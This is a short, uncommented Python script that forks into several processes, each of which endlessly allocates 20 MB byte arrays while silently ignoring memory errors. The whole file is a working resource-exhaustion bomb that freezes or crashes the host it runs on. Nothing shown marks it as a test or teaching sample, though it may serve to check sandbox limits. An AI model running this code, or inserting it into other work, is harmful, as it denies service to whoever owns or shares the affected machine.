import os

for _ in range(8):
    if os.fork() == 0:
        break
held = []
while True:
    try:
        held.append(bytearray(b"x" * 20_000_000))
    except MemoryError:
        pass
